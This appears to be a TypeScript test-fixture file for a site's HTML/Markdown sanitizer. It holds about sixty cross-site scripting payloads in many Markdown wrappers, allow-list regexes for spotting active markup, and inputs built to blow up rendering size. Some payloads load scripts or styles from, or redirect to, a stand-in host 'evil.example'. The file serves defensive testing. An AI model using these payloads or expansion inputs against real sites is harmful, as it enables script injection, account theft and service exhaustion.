// Texts that try to become active in a page: every vector in every context, for tests of everything that shows texts of
// members or administrators. Each would set `window.hacked` if it ran.

const RUN = 'window.hacked=1'

export const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<SCRIPT/SRC="data:text/javascript,${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" `,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>`,
  `<div style="position:fixed;inset:0;background:url(javascript:${RUN})">x</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  // Former slot marks of public pages, which the server ignores now.
  `<!--slot:homepage-announcement-->x<!--/slot--><h1 id=pwned>x</h1>`,
  `"><!--slot:homepage-announcement--><!--/slot--><meta http-equiv=refresh content=4;url=//evil.example>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`,
  `<x/onclick=${RUN} style=display:block>x`,
  `<<script>${RUN}//<</script>`,
  `</p></div></article><script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[x](https://ok.example/"onmouseover="${RUN})`,
  `[x](https://ok.example 'x" onmouseover="${RUN}')`,
  `![x](javascript:${RUN})`,
  `![x](https://evil.example/pixel.gif "t\\" onload=\\"${RUN}")`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `\`<script>${RUN}</script>\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u202e<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
]

const CONTEXTS: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `# ${vector}`,
  (vector) => `> ${vector}`,
  (vector) => `- ${vector}\n- more`,
  (vector) => `**${vector}**`,
  (vector) => `[${vector}](https://ok.example)`,
  (vector) => `| head |\n| --- |\n| ${vector} |`,
  (vector) => `\`\`\`html\n${vector}\n\`\`\``,
  (vector) => `Before\n\n${vector}\n\nafter`,
]

/** More than 450 hostile texts, Markdown and HTML. */
export const HOSTILE = VECTORS.flatMap((vector) => CONTEXTS.map((within) => within(vector)))

const TAGS = 'p|br|hr|h3|h4|h5|h6|blockquote|pre|code|ul|ol|li|strong|em|s|a|table|thead|tbody|tr|th|td|mark'
const ATTRIBUTES =
  /^( (?:href="(?:https?:\/\/|mailto:)[^"<>]*"|title="[^"<>]*"|rel="noopener noreferrer nofollow ugc"|(?:start|value)="\d+"|tabindex="0"|align="(?:left|center|right)"|class="digits-\d+"))*$/
const SECTION_TAG = new RegExp(
  `^(/?)(?:${TAGS}|h2|div|span|img|details|summary|caption|figure|figcaption)((?: (?:open|[a-z]+="[^"<>]*"))*)( /)?$`,
)
const SECTION_ATTRIBUTES =
  /^( (?:href="(?:https?:\/\/|mailto:|\/(?!\/))[^"<>]*"|src="\/(?!\/)[^"<>]*"|(?:title|alt)="[^"<>]*"|rel="noopener noreferrer"|loading="lazy"|open|start="\d+"))*$/
const TAG = new RegExp(`^(/?)(?:${TAGS})((?: [a-z]+="[^"<>]*")*)( /)?$`)

/**
 * Finds the parts of an HTML text that are not on a list. Does not parse: everything that begins with `<` must have one
 * of the few forms listed here.
 * @param tag one tag without its brackets; its second group contains the attributes, each after a space
 * @returns a function that returns the offending parts; none for safe HTML
 */
const partsBeside = (tag: RegExp, attributes: RegExp) => (html: string) =>
  html
    .split('<')
    .slice(1)
    .filter((piece) => {
      const end = piece.indexOf('>')
      const found = end < 0 ? null : tag.exec(piece.slice(0, end))
      return !found || !attributes.test(found[2] ?? '')
    })
    .map((piece) => `<${piece.slice(0, 80)}`)

/** Returns the parts of an HTML text that are not allowed in texts of members. */
export const activeParts = partsBeside(TAG, ATTRIBUTES)

/** Returns the parts of an HTML text that are not allowed in sections. */
export const activePartsOfSection = partsBeside(SECTION_TAG, SECTION_ATTRIBUTES)

const fill = (unit: string, size: number) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size)
/** Creates a text that is half a reference with a long URL or title, and half links to it. */
const references = (definition: string, unit: string) => (size: number) =>
  `${definition}${fill(unit, size / 2)}${definition.endsWith('"') ? '"' : ''}\n\n${fill('[a]', size / 2)}`

/** Texts that expand when they are rendered, each of a given size. */
export const EXPANDING: Record<string, (size: number) => string> = {
  'references with a title': references('[a]: http://x.y/ "', '&'),
  'references with quotation marks': references('[a]: http://x.y/ "', "'"),
  'references with an address': references('[a]: http://x.y/', '日'),
  'references with an address of emoji': references('[a]: http://x.y/', '😀'),
  'full references': (size) => `[a]: http://x.y/${fill('&', size / 2)}\n\n${fill('[b][a]', size / 2)}`,
  'collapsed references': (size) => `[a]: http://x.y/${fill('"', size / 2)}\n\n${fill('[a][]', size / 2)}`,
  'references in a table': (size) =>
    `[a]: http://x.y/${fill('&', size / 2)}\n\n${fill('|[a]', size / 4)}\n${fill('|-', size / 8)}\n${fill('|[a]', size / 4)}`,
  'short references': (size) => `[a]: b\n\n${fill('[a]', size)}`,
  ...Object.fromEntries(
    [
      ...[
        '[a](b)',
        '[](b)',
        '<a@b.c>',
        'http://a ',
        'https://a.日 ',
        '![[',
        '[a](<',
        '*a ',
        '**a *b ',
        '~~a',
      ],
      ...['>', '>>a\n', `${'>'.repeat(50)}a\n\n`, `${'> '.repeat(90)}a\n\n`, '- ', '-\n', '1. 1. 1. a\n\n'],
      ...[
        '#\n',
        '---\n\n',
        'a\n',
        'a  \n',
        '|a|\n|-|\n|a|\n\n',
        '|-',
        '&',
        '"',
        '<',
        '<a ',
        '&amp;',
        '\\',
        '\t',
      ],
      ...['    &\n', '```\n', '\u2028', '😀', 'a_b_', '*[`"&<a|', '- - - - -\n\n', '`a``', '\0', '\r\n'],
    ].map((unit) => [JSON.stringify(unit), (size: number) => fill(unit, size)]),
  ),
  'an address that has to be encoded': (size) => `[a](${fill('日', size)})`,
  'a wide table': (size) => `${fill('a|', size / 10)}\n${fill('-|', size / 10)}\n${fill('a\n', size * 0.8)}`,
  'a table of empty cells': (size) => `|a|b|\n|-|-|\n${fill('|||\n', size)}`,
  'a nested list': (size) =>
    Array.from({ length: Math.floor(Math.sqrt(size)) }, (_, depth) => `${' '.repeat(depth)}- a\n`).join(''),
}
